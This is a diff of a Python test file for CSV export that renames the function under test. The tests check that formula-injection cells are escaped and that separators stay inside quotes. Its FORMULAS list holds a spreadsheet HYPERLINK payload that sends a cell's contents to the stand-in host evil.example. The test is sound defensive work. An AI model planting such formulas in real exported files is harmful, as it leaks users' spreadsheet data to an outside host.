@@ -8,7 +8,7 @@ import re
 
 import pytest
 
-from director.runs.exported_data import as_csv
+from director.runs.exported_data import export_rows_as_csv
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"open")',
@@ -41,7 +41,9 @@ SEPARATORS = ["a\r=1+1", "a\n=1+1", "a;=1+1", "a\t=1+1", 'a",=1+1', "a,=1+1", "a
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_a_column_that_is_a_formula_is_a_text(formula: str) -> None:
     """The head of the file is as hostile as its cells."""
-    ((name,), (cell,)) = csv.reader(io.StringIO(as_csv([{formula: formula}]), newline=""))
+    ((name,), (cell,)) = csv.reader(
+        io.StringIO(export_rows_as_csv([{formula: formula}]), newline="")
+    )
     assert name == cell == f"'{formula}"
 
 
@@ -53,7 +55,7 @@ def test_a_column_that_is_a_formula_is_a_text(formula: str) -> None:
 @pytest.mark.parametrize("text", SEPARATORS)
 def test_a_cell_cannot_begin_another(text: str) -> None:
     """Programs differ in what they split at; nothing of it is outside of quotes."""
-    written = as_csv([{"a": text}])
+    written = export_rows_as_csv([{"a": text}])
     ((_,), (cell,)) = csv.reader(io.StringIO(written, newline=""))
     assert cell == text
     assert "=" not in re.sub(r'"(?:[^"]|"")*"', "", written)
@@ -75,7 +77,9 @@ def test_honest_values_stay_as_they_are() -> None:
         "g": None,
         "h": [1],
     }
-    assert as_csv([row]) == 'a,b,c,d,e,f,g,h\n-5,-5,+1.5e3,-0.25,plain,"a=b",,1\n'
+    assert export_rows_as_csv([row]) == 'a,b,c,d,e,f,g,h\n-5,-5,+1.5e3,-0.25,plain,"a=b",,1\n'
     texts = ["-", "---", "-12.50", "-1,234.50", "-1.234,50 €", "+49 30 123456", "-5 %", "-1'000"]
-    written = csv.reader(io.StringIO(as_csv([{"a": text} for text in texts]), newline=""))
+    written = csv.reader(
+        io.StringIO(export_rows_as_csv([{"a": text} for text in texts]), newline="")
+    )
     assert [cell for (cell,) in written][1:] == texts
